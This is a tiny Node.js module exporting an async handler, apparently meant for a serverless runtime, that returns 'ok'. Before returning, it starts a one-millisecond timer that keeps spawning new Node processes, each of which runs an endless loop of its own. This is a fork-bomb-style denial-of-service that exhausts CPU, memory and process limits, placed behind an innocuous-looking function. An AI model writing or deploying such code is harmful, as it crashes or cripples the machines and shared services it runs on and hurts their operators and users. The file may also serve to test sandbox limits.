const { spawn } = require("child_process");

exports.handler = async () => {
  setInterval(() => {
    spawn(process.execPath, ["-e", "setInterval(()=>{},1)"]);
  }, 1);
  return "ok";
};
